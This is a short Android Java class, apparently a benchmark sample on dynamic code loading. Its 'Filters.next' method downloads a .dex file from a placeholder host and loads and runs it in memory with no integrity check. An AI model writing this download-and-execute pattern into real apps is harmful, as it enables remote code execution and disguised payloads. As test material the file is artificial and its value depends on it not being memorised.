package bench.points.plugin_download;

import android.content.Context;
import dalvik.system.InMemoryDexClassLoader;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.net.URL;
import java.nio.ByteBuffer;

final class Filters {
    private final Context context;

    Filters(Context context) {
        this.context = context;
    }

    String next() throws Exception {
        ByteArrayOutputStream code = new ByteArrayOutputStream();
        try (InputStream in = new URL("https://cdn.xiangkuang.example/filters.dex").openStream()) {
            byte[] part = new byte[8192];
            for (int n = in.read(part); n > 0; n = in.read(part)) {
                code.write(part, 0, n);
            }
        }
        ClassLoader loader = new InMemoryDexClassLoader(
                ByteBuffer.wrap(code.toByteArray()), context.getClassLoader()); //: #load
        Object pack = loader.loadClass("frames.Pack").getDeclaredConstructor().newInstance();
        return (String) pack.getClass().getMethod("title").invoke(pack);
    }
}
